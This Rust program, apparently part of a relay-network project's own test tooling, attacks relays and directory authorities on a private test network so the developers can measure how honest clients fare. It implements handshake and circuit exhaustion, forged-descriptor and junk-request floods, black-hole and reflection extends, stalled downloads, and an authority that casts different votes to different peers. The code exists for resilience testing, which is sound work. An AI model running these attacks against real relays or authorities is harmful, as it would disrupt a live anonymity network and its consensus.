//! A hostile participant of a network of circuits, for a network of one's own: what honest clients notice is measured beside it (`interop/attacks_test.py`).
//!
//! ```text
//! hostile LIST RELAY SECONDS skins CHANNELS        circuit handshakes that cost RELAY a key exchange each and this program nothing
//! hostile LIST RELAY SECONDS circuits CHANNELS     as many idle circuits as RELAY lets there be
//! hostile LIST RELAY SECONDS identities COUNT      a relay's channel for each of COUNT identities that nobody knows
//! hostile LIST RELAY SECONDS black-hole ADDRESS    has RELAY extend to every listed relay at an address where nobody answers
//! hostile LIST RELAY SECONDS extend NAME CHANNELS  has RELAY extend circuits to the relay NAME and cut them off again, without end
//! hostile LIST RELAY SECONDS reflect ADDRESS       has RELAY dial ADDRESS for a new identity, again and again
//! hostile LIST RELAY SECONDS descriptors ADDRESS… hands descriptors of relays that are nowhere to the authorities at these addresses
//! hostile LIST RELAY SECONDS cells KIND CHANNELS   cells without a use on circuits to RELAY: `drop`, `unknown`, `garbage`, or `destroy`
//! hostile LIST RELAY SECONDS stalls NAME NAME TARGET PATH COUNT
//!                                                  circuits over RELAY and the relays NAME; downloads of PATH from the HTTP server TARGET of which
//!                                                  nothing is taken
//! hostile LIST RELAY SECONDS ask ADDRESSES SOURCE… asks the authorities at ADDRESSES (with commas) for the list and hands in rubbish, from each SOURCE
//! hostile LIST RELAY SECONDS two-faced KEY ADDRESS VOTE FRIEND
//!                                                  stands at ADDRESS as the authority whose key is in the file KEY; votes like the file VOTE
//!                                                  towards whoever asks from FRIEND, and like LIST towards all others
//! hostile LIST RELAY SECONDS forward NAME ADDRESS  stands at ADDRESS between RELAY and the relay NAME, and passes bytes on
//! ```
//! LIST is a file with the authorities' list, RELAY a name in it. It prints what it has done in one line of JSON, each second and
//! after SECONDS, when it ends. Floods of other parts of a relay
//! are the example `floods` of `crates/relay`.

#![expect(
    clippy::panic,
    clippy::print_stdout,
    clippy::unwrap_used,
    clippy::disallowed_methods,
    reason = "an experiment on the command line: it prints, opens sockets, and whatever fails ends it"
)]

use std::{
    collections::{BTreeMap, HashMap},
    net::{IpAddr, SocketAddr},
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering::Relaxed},
    },
    time::{Duration, SystemTime},
};

use bytes::BytesMut;
use hoplite_channel::{Channel, ChannelDialer, Circuit, Config, Counts, How, Whom, handshake::Us};
use hoplite_crypto::{
    onion::{
        RelayKeys,
        identity::{RelayIdentity, stand_in},
        layers::{ClientLayers, RelayCrypto},
        ntor3,
        rsa::sha256,
    },
    signing::SigningKey,
};
use hoplite_overlay::{Direct, Error, Terms};
use hoplite_wire::{
    Target,
    cell::{
        BODY, Cell, Command,
        circuit::{ClientExtensions, Create2, Created2, Extend2, HandshakeType, LinkSpecifier},
        relay::{self, StreamId},
    },
    directory::{
        Commitment, Commitments, Descriptor, Key, List, SharedRandomLines, Signature,
        SignedDescriptor, SignedList, Stage,
    },
};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt, copy_bidirectional},
    net::{TcpListener, TcpSocket, TcpStream, UdpSocket},
    task::JoinSet,
    time::{Instant, sleep, timeout},
};

/// Counters of what was done and what came of it.
#[derive(Default)]
struct Tally {
    tried: AtomicU64,
    answered: AtomicU64,
    refused: AtomicU64,
    bytes: AtomicU64,
}

impl Tally {
    fn print(&self, what: &str) {
        let count = |counter: &AtomicU64| counter.load(Relaxed);
        let line = format!(
            "{{\"attack\":\"{what}\",\"tried\":{},\"answered\":{},\"refused\":{},\"bytes\":{}}}\n",
            count(&self.tried),
            count(&self.answered),
            count(&self.refused),
            count(&self.bytes),
        );
        // At once: the process may end meanwhile.
        print!("{line}");
    }
}

struct Attack {
    relays: Vec<SignedDescriptor>,
    first: SignedDescriptor,
    until: Instant,
    tally: Tally,
}

impl Attack {
    fn is_over(&self) -> bool {
        Instant::now() >= self.until
    }

    fn named(&self, name: &str) -> SignedDescriptor {
        let found = self
            .relays
            .iter()
            .find(|relay| relay.descriptor.name == name);
        found
            .unwrap_or_else(|| panic!("no relay {name} in the list"))
            .clone()
    }

    /// A channel of its own, with an identity or as a client.
    async fn channel(&self, us: Us, how: How) -> Result<Channel, Error> {
        self.channel_with(us, how, Config::default()).await
    }

    async fn channel_with(&self, us: Us, how: How, config: Config) -> Result<Channel, Error> {
        let link = hoplite_link::Config::default();
        let dialer = ChannelDialer::new(
            Arc::new(Direct::default()),
            us,
            &link,
            config,
            Arc::<Counts>::default(),
        );
        let whom = whom(&self.first);
        let terms = Terms {
            deadline: Some(Instant::now() + Duration::from_secs(5)),
            ..Terms::default()
        };
        dialer.dial(&whom, how, &terms).await
    }

    fn count(&self, good: bool) {
        let counter = if good {
            &self.tally.answered
        } else {
            &self.tally.refused
        };
        counter.fetch_add(1, Relaxed);
    }
}

fn whom(relay: &SignedDescriptor) -> Whom {
    Whom {
        name: relay.descriptor.name.clone(),
        address: Target::from(relay.descriptor.addresses[0]),
        identity: Some(relay.descriptor.identity.0),
        rsa: None,
    }
}

fn keys(relay: &SignedDescriptor) -> RelayKeys {
    let ed25519 = relay.descriptor.identity.0;
    RelayKeys {
        rsa_id: stand_in(&ed25519),
        ed25519,
        onion: relay.descriptor.onion.expect("a relay of circuits"),
    }
}

fn skin(relay: &SignedDescriptor) -> (ntor3::ClientState, Vec<u8>) {
    let mut message = Vec::new();
    ClientExtensions::default().write(&mut message);
    ntor3::client(&keys(relay), &message).unwrap()
}

fn random<const N: usize>() -> [u8; N] {
    let mut bytes = [0; N];
    getrandom(&mut bytes);
    bytes
}

fn getrandom(bytes: &mut [u8]) {
    use ring::rand::SecureRandom;
    ring::rand::SystemRandom::new().fill(bytes).unwrap();
}

fn create(circuit: &Circuit, skin: &[u8]) -> Cell {
    let create = Create2 {
        handshake: HandshakeType::NTOR_V3,
        data: skin,
    };
    Cell::new(circuit.id, Command::CREATE2, |body| create.write(body)).unwrap()
}

/// A circuit of one hop that is there.
struct Made {
    circuit: Circuit,
    layers: ClientLayers,
}

async fn made(channel: &Channel, relay: &SignedDescriptor) -> Option<Made> {
    let mut circuit = timeout(Duration::from_secs(2), channel.open())
        .await
        .ok()?
        .ok()?;
    let (state, skin) = skin(relay);
    circuit.sender.ready().await.ok()?;
    let cell = create(&circuit, &skin);
    circuit.sender.send(cell).ok()?;
    circuit.sender.flush().await.ok()?;
    let cell = timeout(Duration::from_secs(5), circuit.receiver.recv())
        .await
        .ok()??;
    if cell.command != Command::CREATED2 {
        return None;
    }
    let created = Created2::parse(&cell.body).ok()?;
    let (_, seed) = state.finish(created.data).ok()?;
    let mut layers = ClientLayers::new();
    layers.push(&seed, RelayCrypto::Tor1).ok()?;
    Some(Made { circuit, layers })
}

/// Has the relay at the circuit's end extend to `relay`, said to be at `address`. What comes back: whether it did.
async fn extend(
    mut made: Made,
    relay: &SignedDescriptor,
    identity: [u8; 32],
    address: SocketAddr,
) -> (bool, Made) {
    let (_, skin) = skin(relay);
    let place = match address {
        SocketAddr::V4(address) => LinkSpecifier::Ipv4(address),
        SocketAddr::V6(address) => LinkSpecifier::Ipv6(address),
    };
    let extend = Extend2 {
        specifiers: vec![place, LinkSpecifier::Ed25519(identity)],
        create: Create2 {
            handshake: HandshakeType::NTOR_V3,
            data: &skin,
        },
    };
    let mut data = Vec::new();
    extend.write(&mut data);
    let mut body = BytesMut::zeroed(BODY);
    let fixed: &mut [u8; BODY] = body.as_mut().try_into().unwrap();
    relay::write(
        relay::Format::V0,
        fixed,
        relay::RelayCommand::EXTEND2,
        StreamId(0),
        &data,
    )
    .unwrap();
    made.layers
        .encrypt_for(0, Command::RELAY_EARLY, fixed)
        .unwrap();
    let cell = Cell {
        circuit: made.circuit.id,
        command: Command::RELAY_EARLY,
        stream: StreamId::CIRCUIT,
        body,
    };
    let extended = is_answered(&mut made, cell).await;
    (extended, made)
}

/// Whether the relay at the circuit's end says something to `cell`, whatever it is.
async fn is_answered(made: &mut Made, cell: Cell) -> bool {
    let sender = &mut made.circuit.sender;
    if sender.ready().await.is_err() || sender.send(cell).is_err() || sender.flush().await.is_err()
    {
        return false;
    }
    let answer = timeout(Duration::from_secs(35), made.circuit.receiver.recv()).await;
    let answer = answer.ok().flatten();
    answer.is_some_and(|cell| cell.command == Command::RELAY)
}

/// As many EXTEND2 as RELAY_EARLY cells are left, on one circuit after the other: each costs `to` a key exchange, or uses up what it permits.
async fn extending_again(attack: Arc<Attack>, to: SignedDescriptor, channels: usize) {
    let mut running = JoinSet::new();
    for _ in 0..channels {
        let (attack, to) = (Arc::clone(&attack), to.clone());
        running.spawn(async move {
            while !attack.is_over() {
                let Ok(channel) = attack.channel(Us::default(), How::Tls).await else {
                    sleep(Duration::from_millis(50)).await;
                    continue;
                };
                while let Some(circuit) = made(&channel, &attack.first).await {
                    extend_and_truncate(&attack, circuit, &to).await;
                    if attack.is_over() {
                        return;
                    }
                }
            }
        });
    }
    while running.join_next().await.is_some() {}
}

async fn extend_and_truncate(attack: &Attack, mut made: Made, to: &SignedDescriptor) {
    let (identity, address) = (to.descriptor.identity.0, to.descriptor.addresses[0]);
    for _ in 0..7 {
        let (extended, again) = extend(made, to, identity, address).await;
        made = again;
        attack.tally.tried.fetch_add(1, Relaxed);
        attack.count(extended);
        let mut body = BytesMut::zeroed(BODY);
        let fixed: &mut [u8; BODY] = body.as_mut().try_into().unwrap();
        relay::write(
            relay::Format::V0,
            fixed,
            relay::RelayCommand::TRUNCATE,
            StreamId(0),
            &[],
        )
        .unwrap();
        made.layers.encrypt_for(0, Command::RELAY, fixed).unwrap();
        let cell = Cell {
            circuit: made.circuit.id,
            command: Command::RELAY,
            stream: StreamId::CIRCUIT,
            body,
        };
        if !is_answered(&mut made, cell).await {
            return;
        }
    }
}

/// One key exchange for the relay, a few random bytes for us: it finds only at the end that the handshake is none.
async fn skins(attack: Arc<Attack>, channels: usize) {
    let mut running = JoinSet::new();
    for _ in 0..channels {
        let attack = Arc::clone(&attack);
        running.spawn(async move {
            let (_, template) = skin(&attack.first);
            while !attack.is_over() {
                let Ok(channel) = attack.channel(Us::default(), How::Tls).await else {
                    attack.count(false);
                    sleep(Duration::from_millis(50)).await;
                    continue;
                };
                while channel.is_open() && !attack.is_over() {
                    let Ok(Ok(mut circuit)) =
                        timeout(Duration::from_millis(200), channel.open()).await
                    else {
                        continue;
                    };
                    let mut skin = template.clone();
                    skin[64..96].copy_from_slice(&random::<32>());
                    if circuit.sender.ready().await.is_err() {
                        break;
                    }
                    let cell = create(&circuit, &skin);
                    attack.tally.tried.fetch_add(1, Relaxed);
                    if circuit.sender.send(cell).is_err() || circuit.sender.flush().await.is_err() {
                        break;
                    }
                    let attack = Arc::clone(&attack);
                    tokio::spawn(async move {
                        let answer = timeout(Duration::from_secs(2), circuit.receiver.recv()).await;
                        attack.count(answer.is_ok_and(|cell| cell.is_some()));
                    });
                    tokio::task::yield_now().await;
                }
            }
        });
    }
    while running.join_next().await.is_some() {}
}

async fn circuits(attack: Arc<Attack>, channels: usize) {
    let mut held = Vec::new();
    for _ in 0..channels {
        let Ok(channel) = attack.channel(Us::default(), How::Tls).await else {
            attack.count(false);
            continue;
        };
        while !attack.is_over() {
            attack.tally.tried.fetch_add(1, Relaxed);
            let made = made(&channel, &attack.first).await;
            attack.count(made.is_some());
            let Some(made) = made else { break };
            held.push(made);
        }
        held.shrink_to_fit();
    }
    tokio::time::sleep_until(attack.until).await;
}

async fn identities(attack: Arc<Attack>, count: usize) {
    let now = SystemTime::now()
        .duration_since(SystemTime::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    let mut held = Vec::new();
    for _ in 0..count {
        if attack.is_over() {
            break;
        }
        let identity = RelayIdentity::from_secret(&random::<32>(), now).unwrap();
        let us = Us {
            identity: Some(Arc::new(identity)),
            addresses: Vec::new(),
        };
        attack.tally.tried.fetch_add(1, Relaxed);
        match attack.channel(us, How::Tls).await {
            Ok(channel) => {
                attack.count(true);
                held.push(channel);
            }
            Err(_) => attack.count(false),
        }
    }
    tokio::time::sleep_until(attack.until).await;
}

/// One circuit for each question: the relay may end it.
async fn extending(
    attack: Arc<Attack>,
    to: SignedDescriptor,
    identity: Option<[u8; 32]>,
    address: SocketAddr,
) {
    while !attack.is_over() {
        let Ok(channel) = attack.channel(Us::default(), How::Tls).await else {
            attack.count(false);
            sleep(Duration::from_millis(50)).await;
            continue;
        };
        while channel.is_open() && !attack.is_over() {
            let Some(made) = made(&channel, &attack.first).await else {
                break;
            };
            attack.tally.tried.fetch_add(1, Relaxed);
            let identity = identity.unwrap_or_else(random::<32>);
            let (attack, to) = (Arc::clone(&attack), to.clone());
            tokio::spawn(async move {
                let (extended, _made) = extend(made, &to, identity, address).await;
                attack.count(extended);
            });
            sleep(Duration::from_millis(5)).await;
        }
    }
}

/// Passes bytes on between whoever comes to `address` and `to`, over TCP and UDP, and counts them.
async fn pass(attack: Arc<Attack>, address: SocketAddr, to: SocketAddr) {
    let listener = TcpListener::bind(address).await.unwrap();
    let socket = Arc::new(UdpSocket::bind(address).await.unwrap());
    let counting = Arc::clone(&attack);
    tokio::spawn(async move {
        while let Ok((mut near, _)) = listener.accept().await {
            let attack = Arc::clone(&counting);
            tokio::spawn(async move {
                let Ok(mut far) = TcpStream::connect(to).await else {
                    return;
                };
                if let Ok((up, down)) = copy_bidirectional(&mut near, &mut far).await {
                    attack.tally.bytes.fetch_add(up + down, Relaxed);
                }
            });
        }
    });
    let mut far: HashMap<SocketAddr, Arc<UdpSocket>> = HashMap::new();
    let mut buffer = vec![0; 65_536];
    loop {
        let (length, from) = socket.recv_from(&mut buffer).await.unwrap();
        attack.tally.bytes.fetch_add(length as u64, Relaxed);
        let out = match far.get(&from) {
            Some(out) => Arc::clone(out),
            None => {
                let out = Arc::new(UdpSocket::bind((address.ip(), 0)).await.unwrap());
                out.connect(to).await.unwrap();
                far.insert(from, Arc::clone(&out));
                tokio::spawn(back(
                    Arc::clone(&attack),
                    Arc::clone(&out),
                    Arc::clone(&socket),
                    from,
                ));
                out
            }
        };
        out.send(&buffer[..length]).await.ok();
    }
}

/// What comes from the far end for `to`.
async fn back(attack: Arc<Attack>, out: Arc<UdpSocket>, socket: Arc<UdpSocket>, to: SocketAddr) {
    let mut buffer = vec![0; 65_536];
    while let Ok(length) = out.recv(&mut buffer).await {
        attack.tally.bytes.fetch_add(length as u64, Relaxed);
        socket.send_to(&buffer[..length], to).await.ok();
    }
}

/// A descriptor that its own key has signed, of a relay with a stranger's address.
fn descriptor(attack: &Attack) -> SignedDescriptor {
    let key = SigningKey::generate().unwrap();
    let [a, b, c] = random::<3>();
    let descriptor = Descriptor {
        name: "nowhere".to_owned(),
        identity: Key(key.public()),
        addresses: vec![([198, 18 | (a & 1), b, c.max(1)], 443).into()],
        onion: Some(random()),
        pin: None,
        operator: None,
        ..attack.first.descriptor.clone()
    };
    let signature = Signature(key.sign(descriptor.text().as_bytes()));
    SignedDescriptor {
        descriptor,
        certificate: None,
        signature,
    }
}

/// One after the other to each, as fast as it answers.
async fn descriptors(attack: Arc<Attack>, authorities: Vec<SocketAddr>) {
    let mut all = JoinSet::new();
    for authority in authorities {
        let attack = Arc::clone(&attack);
        all.spawn(async move {
            while !attack.is_over() {
                let text = descriptor(&attack).to_string();
                attack.tally.tried.fetch_add(1, Relaxed);
                let answer = timeout(Duration::from_secs(5), post(authority, &text)).await;
                let taken = answer.is_ok_and(|said| said.is_ok_and(|said| said.contains(" 200 ")));
                attack.count(taken);
            }
        });
    }
    while all.join_next().await.is_some() {}
}

async fn post(authority: SocketAddr, text: &str) -> std::io::Result<String> {
    said(authority, None, &posted(text)).await
}

fn posted(text: &str) -> String {
    format!(
        "POST /hoplite/descriptor HTTP/1.1\r\nHost: a\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{text}",
        text.len()
    )
}

/// What an authority answers to a request from this address.
async fn said(
    authority: SocketAddr,
    source: Option<IpAddr>,
    request: &str,
) -> std::io::Result<String> {
    let socket = TcpSocket::new_v4()?;
    if let Some(source) = source {
        socket.bind((source, 0).into())?;
    }
    let mut stream = socket.connect(authority).await?;
    stream.write_all(request.as_bytes()).await?;
    let mut said = String::new();
    stream.read_to_string(&mut said).await?;
    Ok(said)
}

/// Cells that a relay has to decrypt, or circuits that it has to begin and to end, and nobody has anything of.
#[derive(Clone, Copy)]
enum Useless {
    Message(relay::RelayCommand),
    Garbage,
    Destroy,
}

async fn cells(attack: Arc<Attack>, what: Useless, channels: usize) {
    let mut running = JoinSet::new();
    for _ in 0..channels {
        let attack = Arc::clone(&attack);
        running.spawn(async move {
            while !attack.is_over() {
                let Ok(channel) = attack.channel(Us::default(), How::Tls).await else {
                    attack.count(false);
                    sleep(Duration::from_millis(50)).await;
                    continue;
                };
                while channel.is_open() && !attack.is_over() {
                    match what {
                        Useless::Destroy => begun_and_ended(&attack, &channel).await,
                        _ => match made(&channel, &attack.first).await {
                            Some(made) => useless(&attack, made, what).await,
                            None => attack.count(false),
                        },
                    }
                }
            }
        });
    }
    while running.join_next().await.is_some() {}
}

/// A circuit that is ended before it is answered.
async fn begun_and_ended(attack: &Attack, channel: &Channel) {
    let Ok(Ok(mut circuit)) = timeout(Duration::from_millis(200), channel.open()).await else {
        return;
    };
    let (_, skin) = skin(&attack.first);
    if circuit.sender.ready().await.is_ok() {
        let cell = create(&circuit, &skin);
        if circuit.sender.send(cell).is_ok() && circuit.sender.flush().await.is_ok() {
            attack.tally.tried.fetch_add(1, Relaxed);
        }
    }
    circuit.sender.destroy(0);
    tokio::task::yield_now().await;
}

/// As many as the circuit takes.
async fn useless(attack: &Attack, mut made: Made, what: Useless) {
    attack.count(true);
    while !attack.is_over() {
        let mut body = BytesMut::zeroed(BODY);
        let fixed: &mut [u8; BODY] = body.as_mut().try_into().unwrap();
        match what {
            Useless::Message(command) => {
                relay::write(relay::Format::V0, fixed, command, StreamId(0), b"of no use").unwrap();
                made.layers.encrypt_for(0, Command::RELAY, fixed).unwrap();
            }
            _ => getrandom(fixed),
        }
        let cell = Cell {
            circuit: made.circuit.id,
            command: Command::RELAY,
            stream: StreamId::CIRCUIT,
            body,
        };
        let ready = timeout(Duration::from_secs(1), made.circuit.sender.ready()).await;
        if !matches!(ready, Ok(Ok(()))) || made.circuit.sender.send(cell).is_err() {
            return;
        }
        attack.tally.tried.fetch_add(1, Relaxed);
    }
}

/// The hop after the last of a circuit; `None` if there is none.
async fn lengthened(mut made: Made, to: &SignedDescriptor) -> Option<Made> {
    let (state, skin) = skin(to);
    let SocketAddr::V4(address) = to.descriptor.addresses[0] else {
        panic!("relays of the experiment have IPv4");
    };
    let extend = Extend2 {
        specifiers: vec![
            LinkSpecifier::Ipv4(address),
            LinkSpecifier::Ed25519(to.descriptor.identity.0),
        ],
        create: Create2 {
            handshake: HandshakeType::NTOR_V3,
            data: &skin,
        },
    };
    let mut data = Vec::new();
    extend.write(&mut data);
    let (command, early) = (relay::RelayCommand::EXTEND2, Command::RELAY_EARLY);
    say(&mut made, early, command, StreamId::CIRCUIT, &data).await?;
    let answer = timeout(Duration::from_secs(35), made.circuit.receiver.recv());
    let mut cell = answer.await.ok()??;
    if cell.command != Command::RELAY {
        return None;
    }
    let fixed = cell.fixed().ok()?;
    made.layers.decrypt(fixed)?;
    let header = relay::Header::read(relay::Format::V0, fixed).ok()?;
    let created = Created2::parse(header.data(fixed).ok()?).ok()?;
    let (_, seed) = state.finish(created.data).ok()?;
    made.layers.push(&seed, RelayCrypto::Tor1).ok()?;
    Some(made)
}

/// Says something to the last hop.
async fn say(
    made: &mut Made,
    how: Command,
    command: relay::RelayCommand,
    stream: StreamId,
    data: &[u8],
) -> Option<()> {
    let mut body = BytesMut::zeroed(BODY);
    let fixed: &mut [u8; BODY] = body.as_mut().try_into().unwrap();
    relay::write(relay::Format::V0, fixed, command, stream, data).unwrap();
    let last = made.layers.len() - 1;
    made.layers.encrypt_for(last, how, fixed).unwrap();
    let cell = Cell {
        circuit: made.circuit.id,
        command: how,
        stream: StreamId::CIRCUIT,
        body,
    };
    let sender = &mut made.circuit.sender;
    sender.ready().await.ok()?;
    sender.send(cell).ok()?;
    sender.flush().await.ok()
}

/// How many channels have them: a relay lets a client have 256 circuits on each.
const STALLING: usize = 8;

/// As many bytes as relays send ahead of any answer wait in each circuit, and nobody takes them: first those that fill the window of this circuit here,
/// which is as small as it can be, then at RELAY, in its channel from the next.
async fn stalls(attack: Arc<Attack>, words: &[String]) {
    let [one, other, target, path, count] = words else {
        panic!("stalls NAME NAME TARGET PATH COUNT");
    };
    let over = Arc::new([one, other].map(|name| attack.named(name)));
    let target: Target = target.parse().unwrap();
    let count: usize = count.parse().unwrap();
    let request = Arc::new(format!("GET {path} HTTP/1.0\r\n\r\n"));
    let mut running = JoinSet::new();
    for _ in 0..STALLING {
        let (attack, over) = (Arc::clone(&attack), Arc::clone(&over));
        let (target, request) = (target.clone(), Arc::clone(&request));
        running.spawn(async move {
            let config = Config {
                window: 4096,
                ..Config::default()
            };
            let channel = attack.channel_with(Us::default(), How::Quic, config).await;
            let (channel, mut held) = (channel.unwrap(), Vec::new());
            while held.len() < count / STALLING && !attack.is_over() {
                attack.tally.tried.fetch_add(1, Relaxed);
                let stalled = stalled(&attack, &channel, over.as_slice(), &target, &request).await;
                attack.count(stalled.is_some());
                match stalled {
                    Some(stalled) => held.push(stalled),
                    None => sleep(Duration::from_millis(50)).await,
                }
            }
            tokio::time::sleep_until(attack.until).await;
        });
    }
    while running.join_next().await.is_some() {}
}

/// Two downloads: a stream's window is half of a circuit's.
async fn stalled(
    attack: &Attack,
    channel: &Channel,
    over: &[SignedDescriptor],
    target: &Target,
    request: &str,
) -> Option<Made> {
    let mut made = made(channel, &attack.first).await?;
    for relay in over {
        made = lengthened(made, relay).await?;
    }
    let flags = relay::Flags::default();
    let target = target.clone();
    let mut begin = Vec::new();
    relay::Message::Begin(relay::Begin { target, flags }).write(&mut begin);
    for stream in [1, 2].map(StreamId) {
        let how = Command::RELAY;
        say(&mut made, how, relay::RelayCommand::BEGIN, stream, &begin).await?;
        let data = request.as_bytes();
        say(&mut made, how, relay::RelayCommand::DATA, stream, data).await?;
    }
    Some(made)
}

/// One after the other from each source to each authority, as fast as it answers: lists, and three kinds of rubbish.
async fn ask(attack: Arc<Attack>, authorities: Vec<SocketAddr>, sources: Vec<IpAddr>) {
    let mut all = JoinSet::new();
    for (authority, source) in authorities
        .iter()
        .flat_map(|authority| sources.iter().map(|source| (*authority, *source)))
    {
        let attack = Arc::clone(&attack);
        all.spawn(async move {
            let mut unsigned = attack.first.clone();
            unsigned.signature = Signature([7; 64]);
            let rubbish = ["x".repeat(4096), unsigned.to_string(), "x".repeat(65_536)];
            while !attack.is_over() {
                for turn in 0..6 {
                    let request = match rubbish.get(turn) {
                        Some(rubbish) => posted(rubbish),
                        None => {
                            "GET /hoplite/list HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"
                                .to_owned()
                        }
                    };
                    attack.tally.tried.fetch_add(1, Relaxed);
                    let asking = said(authority, Some(source), &request);
                    let answer = timeout(Duration::from_secs(5), asking).await;
                    let answer = answer.ok().and_then(Result::ok).unwrap_or_default();
                    attack.tally.bytes.fetch_add(answer.len() as u64, Relaxed);
                    attack.count(answer.starts_with("HTTP/1.1 200"));
                }
            }
        });
    }
    while all.join_next().await.is_some() {}
}

/// An authority that commits to one vote towards some and to another towards the rest, and signs every list.
struct TwoFaced {
    key: SigningKey,
    friend: IpAddr,
    /// As the friend's vote has them.
    shown: Vec<SignedDescriptor>,
    /// As the list has them.
    known: Vec<SignedDescriptor>,
}

impl TwoFaced {
    fn answer(&self, who: IpAddr, path: &str) -> Option<String> {
        let own = Key(self.key.public());
        let mut parts = path.strip_prefix("/hoplite/")?.split('/');
        let (what, at) = (parts.next()?, parts.next()?.parse().ok()?);
        let relays = if who == self.friend {
            &self.shown
        } else {
            &self.known
        };
        let list = List {
            stage: Stage::Vote,
            valid_after: at,
            fresh_until: at + INTERVAL,
            valid_until: at + 1000 * INTERVAL,
            params: BTreeMap::new(),
            shared_random: SharedRandomLines::default(),
            relays: relays.clone(),
            opinions: BTreeMap::new(),
        };
        let commitment = Commitment {
            valid_after: at,
            voter: own,
            vote: sha256(list.text().as_bytes()),
        };
        let signature = Signature(self.key.sign(commitment.text().as_bytes()));
        let signatures = BTreeMap::from([(own, signature)]);
        match (what, parts.next()) {
            ("commitments", None) => {
                let all = BTreeMap::from([(commitment, signatures)]);
                Some(Commitments { all }.to_string())
            }
            ("vote", Some(voter)) if voter == own.to_string() => {
                Some(SignedList { list, signatures }.to_string())
            }
            _ => None,
        }
    }
}

/// The list that whoever asks has made himself, with the liar's signature beside his: whatever he believes is signed by two.
async fn signed_too(liar: &TwoFaced, address: SocketAddr, path: &str) -> Option<String> {
    path.strip_prefix("/hoplite/list/")?;
    let request = format!("GET {path} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n");
    let answer = said(address, None, &request).await.ok()?;
    let (_, text) = answer.split_once("\r\n\r\n")?;
    let mut list = SignedList::parse(text, Stage::List).ok()?;
    let signature = Signature(liar.key.sign(list.list.text().as_bytes()));
    list.signatures.insert(Key(liar.key.public()), signature);
    Some(list.to_string())
}

/// What the network of the experiment has in its files.
const INTERVAL: u64 = 8;

async fn two_faced(attack: Arc<Attack>, liar: TwoFaced, address: SocketAddr) {
    let listener = TcpListener::bind(address).await.unwrap();
    let liar = Arc::new(liar);
    let serving = async {
        while let Ok((mut stream, from)) = listener.accept().await {
            let (attack, liar) = (Arc::clone(&attack), Arc::clone(&liar));
            tokio::spawn(async move {
                let mut request = [0; 4096];
                let length = stream.read(&mut request).await.unwrap_or(0);
                let request = String::from_utf8_lossy(&request[..length]).into_owned();
                let path = request.split(' ').nth(1).unwrap_or_default();
                let requester = SocketAddr::new(from.ip(), address.port());
                let answer = match liar.answer(from.ip(), path) {
                    Some(answer) => Some(answer),
                    None => signed_too(&liar, requester, path).await,
                };
                attack.tally.tried.fetch_add(1, Relaxed);
                attack.count(answer.is_some());
                let status = match answer {
                    Some(_) => "200 OK",
                    None => "404 none",
                };
                let body = answer.unwrap_or_default();
                let head = format!(
                    "HTTP/1.1 {status}\r\nConnection: close\r\nContent-Length: {}\r\n\r\n",
                    body.len()
                );
                stream
                    .write_all(format!("{head}{body}").as_bytes())
                    .await
                    .ok();
            });
        }
    };
    tokio::time::timeout_at(attack.until, serving).await.ok();
}

async fn forward(attack: Arc<Attack>, to: SignedDescriptor, address: SocketAddr) {
    tokio::spawn(pass(
        Arc::clone(&attack),
        address,
        to.descriptor.addresses[0],
    ));
    let channel = attack.channel(Us::default(), How::Tls).await.unwrap();
    let made = made(&channel, &attack.first).await.expect("a circuit");
    attack.tally.tried.fetch_add(1, Relaxed);
    let (extended, _held) = extend(made, &to, to.descriptor.identity.0, address).await;
    attack.count(extended);
    println!("{{\"extended\":{extended}}}");
    // What was said to make it is ours; what comes now is others'.
    sleep(Duration::from_secs(1)).await;
    attack.tally.bytes.store(0, Relaxed);
    tokio::time::sleep_until(attack.until).await;
}

#[tokio::main(flavor = "current_thread")]
async fn main() {
    let words: Vec<String> = std::env::args().skip(1).collect();
    let [list, relay, seconds, what, rest @ ..] = words.as_slice() else {
        panic!("hostile LIST RELAY SECONDS WHAT …: see the head of this file");
    };
    let text = std::fs::read_to_string(list).unwrap();
    let relays = SignedList::parse(&text, Stage::List).unwrap().list.relays;
    let first = relays.iter().find(|known| &known.descriptor.name == relay);
    let attack = Arc::new(Attack {
        first: first.expect("a relay of the list").clone(),
        until: Instant::now() + Duration::from_secs(seconds.parse().unwrap()),
        relays,
        tally: Tally::default(),
    });
    let number = || rest[0].parse().expect("a number");
    let (run, said, named) = (Arc::clone(&attack), Arc::clone(&attack), what.clone());
    std::thread::spawn(move || {
        loop {
            std::thread::sleep(Duration::from_secs(1));
            said.tally.print(&named);
        }
    });
    match what.as_str() {
        "skins" => skins(run, number()).await,
        "circuits" => circuits(run, number()).await,
        "identities" => identities(run, number()).await,
        "black-hole" => {
            let mut all = JoinSet::new();
            for to in attack
                .relays
                .iter()
                .filter(|to| to.descriptor.name != *relay)
            {
                let identity = Some(to.descriptor.identity.0);
                all.spawn(extending(
                    Arc::clone(&run),
                    to.clone(),
                    identity,
                    rest[0].parse().unwrap(),
                ));
            }
            while all.join_next().await.is_some() {}
        }
        "extend" => extending_again(run, attack.named(&rest[0]), rest[1].parse().unwrap()).await,
        "reflect" => extending(run, attack.first.clone(), None, rest[0].parse().unwrap()).await,
        "descriptors" => {
            let authorities = rest.iter().map(|text| text.parse().unwrap());
            descriptors(run, authorities.collect()).await;
        }
        "cells" => {
            let what = match rest[0].as_str() {
                "drop" => Useless::Message(relay::RelayCommand::DROP),
                "unknown" => Useless::Message(relay::RelayCommand(200)),
                "garbage" => Useless::Garbage,
                "destroy" => Useless::Destroy,
                other => panic!("{other}?"),
            };
            cells(run, what, rest[1].parse().unwrap()).await;
        }
        "stalls" => stalls(run, rest).await,
        "ask" => {
            let authorities = rest[0].split(',').map(|text| text.parse().unwrap());
            let sources = rest[1..].iter().map(|text| text.parse().unwrap());
            ask(run, authorities.collect(), sources.collect()).await;
        }
        "two-faced" => {
            let read = |path: &str| std::fs::read_to_string(path).unwrap();
            let vote = SignedList::parse(&read(&rest[2]), Stage::Vote).unwrap();
            let liar = TwoFaced {
                key: read(&rest[0]).parse().unwrap(),
                friend: rest[3].parse().unwrap(),
                shown: vote.list.relays,
                known: attack.relays.clone(),
            };
            two_faced(run, liar, rest[1].parse().unwrap()).await;
        }
        "forward" => forward(run, attack.named(&rest[0]), rest[1].parse().unwrap()).await,
        other => panic!("{other}?"),
    }
    attack.tally.print(what);
}
